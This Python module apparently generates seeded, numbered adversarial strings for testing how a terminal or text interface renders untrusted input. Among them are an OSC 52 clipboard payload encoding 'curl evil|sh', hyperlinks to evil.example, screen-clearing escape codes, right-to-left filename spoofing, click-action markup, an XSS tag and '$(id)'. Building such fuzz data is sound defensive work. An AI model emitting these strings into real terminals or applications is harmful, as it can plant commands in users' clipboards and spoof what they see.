"""What strangers write: every family of A1 to A7 varied by a seed, each string with a number to find it by."""

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random

CSI = (
    "2J 3J 777;777H ?1049l ?1049h 6n c >c =c ?6n 5n 18t 21t 8;1;1t 4h !p 999A 999B 99999999999999C 31;5m"
    " 38;5;201m ?2004l ?1000l s u 2K 100L"
)
FINDS = re.compile(r"q(\d{6})q")
ESC = "\x1b"
OSC = ("\x1b]", "\x9d")
FINALS = ("\x07", "\x1b\\", "\x9c", "")
Family = Callable[[Random], str]


@dataclass(frozen=True)
class Word:
    """A string as it is sent; `shown` is how it must stand on the screen, None where that is not said."""

    number: int
    family: str
    text: str
    shown: str | None = None

    @property
    def line(self) -> str:
        """The string behind its number."""
        return f"q{self.number:06}q {self.text}"


def _paste_buffer(dice: Random) -> str:
    opened = dice.choice(OSC)
    return f"HELLO{opened}52;{dice.choice('cps')};Y3VybCBldmlsfHNoCg=={dice.choice(FINALS)}END"


def _title(dice: Random) -> str:
    return f"T{dice.choice(OSC)}{dice.choice('012')};PWNED{dice.choice(FINALS)}"


def _link(dice: Random) -> str:
    return f"{OSC[0]}8;;https://evil.example/{dice.random()}{dice.choice(FINALS[:3])}click{OSC[0]}8;;{FINALS[1]}"


def _string(dice: Random) -> str:
    opened = dice.choice(("\x1bP", "\x1bX", "\x1b^", "\x1b_", "\x90", "\x98", "\x9e", "\x9f"))
    return f"{opened}+q544e{dice.choice(FINALS)} after"


def _csi(dice: Random) -> str:
    opened = dice.choice(("\x1b[", "\x9b"))
    written = dice.choice(CSI.split())
    return f"A{opened}{written}EVIL"


def _two_letters(dice: Random) -> str:
    return f"x{ESC}{dice.choice('cDEHMNOZ=>78#(')}{dice.choice('8B0y')}y"


def _unfinished(dice: Random) -> str:
    opened = dice.choice(("]", "[", "P", "_", "^", "", "]52;c;", "[38;5;", "[?"))
    return f"the end \x1b{opened}"


def _c0(dice: Random) -> str:
    return f"a{''.join(dice.choice([chr(n) for n in range(32) if n != 10]) for _ in range(6))}b\x7fc"


def _c1(dice: Random) -> str:
    return f"a{''.join(chr(dice.randrange(0x80, 0xA0)) for _ in range(5))}b"


def _query(dice: Random) -> str:
    return f"{dice.choice(OSC)}{dice.choice(('10', '11', '4;1', '12'))};?{dice.choice(FINALS)}"


def _bidi(dice: Random) -> str:
    turn = dice.choice("\u202e\u2066\u2067\u200f\u061c")
    return f"invoice{turn}gnp.exe"


def _unseen(dice: Random) -> str:
    gap = dice.choice("\u200b\ufeff\u2060\xad\u180e\U000e0041")
    return f"ad{gap}min@corp"


def _marks(dice: Random) -> str:
    return "Z" + "".join(chr(dice.randrange(0x300, 0x36F)) for _ in range(dice.choice((9, 40, 300)))) + "!"


def _surrogate(dice: Random) -> str:
    return f"half {chr(dice.randrange(0xD800, 0xE000))} pair"


def _markup(dice: Random) -> str:
    return dice.choice(
        (
            "[@click=app.quit]Cannot log in[/]",
            "[@click=app.simulate_key('b')]x[/]",
            "[@click=screen.solve]y[/]",
            "[/]",
            "price [/b] is",
            "[link=https://evil.example/]x[/link]",
            "[red on blue]x[/] [$error]y[/]",
            "arr[",
            "\\[b]",
            "[bold",
            "[[[/]]]",
            "[#ff0000]red",
            "<img src=x onerror=alert(1)><script>",
            "![x](http://t.example/p.png) [a](vscode://x)",
            "{{ticket.comments_formatted}} {% raw %} ${PATH} $(id) `id`",
        )
    )


def _lines(dice: Random) -> str:
    ends = ("\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\r\n")
    return f"one{dice.choice(ends)}two\ttabbed"


def _nested(dice: Random) -> str:
    inner = dice.choice((_paste_buffer, _title, _csi, _markup))(dice)
    return f"\x1b\x1b]{inner}\x1b[\x1b]52;c;QUJD\x07"


FAMILIES: dict[str, Family] = {
    "paste buffer": _paste_buffer,
    "title": _title,
    "hyperlink": _link,
    "device string": _string,
    "csi": _csi,
    "two letters": _two_letters,
    "unfinished": _unfinished,
    "c0": _c0,
    "c1": _c1,
    "query": _query,
    "bidi": _bidi,
    "invisible": _unseen,
    "marks": _marks,
    "surrogate": _surrogate,
    "markup": _markup,
    "line ends": _lines,
    "nested": _nested,
}
BENIGN = (
    "Grüße",
    "한글",
    "👨‍👩‍👧‍👦",
    "नमस्ते",
    "שלום",
    "x[0] = [1, 2, 3]",
    "C:\\new",
    "日本語のメール",
    "a & b <c>",
    "می‌خواهم",
)


def words(count: int, seed: int) -> Sequence[Word]:
    """So many strings, the families in turn and one in ten benign; the same for the same seed."""
    dice = Random(seed)
    names = list(FAMILIES)
    made = []
    for number in range(count):
        if number % 10 == 9:
            text = BENIGN[number // 10 % len(BENIGN)]
            made.append(Word(number, "benign", text, shown=text))
        else:
            name = names[number % len(names)]
            made.append(Word(number, name, FAMILIES[name](dice)))
    return made
